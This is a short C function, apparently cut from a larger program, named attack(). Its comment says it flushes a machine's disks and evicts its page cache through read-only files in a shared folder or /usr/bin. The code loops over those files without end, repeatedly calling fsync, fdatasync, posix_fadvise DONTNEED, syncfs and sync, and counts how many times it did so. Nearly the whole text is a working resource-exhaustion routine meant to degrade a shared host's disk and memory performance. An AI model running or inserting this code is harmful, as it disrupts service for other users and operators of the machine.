/* Flushes the machine's disks and evicts its page cache, through files that it can only read: those of a folder that the
   operator shares, or else the programs. Prints how often. */
static void attack(void) {
    DIR *folder = opendir("/shared");
    if (!folder) folder = opendir("/usr/bin");
    long count = 0;
    while (folder && !is_over()) {
        struct dirent *entry = readdir(folder);
        if (!entry) { rewinddir(folder); continue; }
        int file = openat(dirfd(folder), entry->d_name, O_RDONLY | O_NONBLOCK);
        if (file < 0) continue;
        fsync(file);
        fdatasync(file);
        posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
        if (++count % 100 == 0) { syncfs(file); sync(); }
        close(file);
    }
    say(count);
}
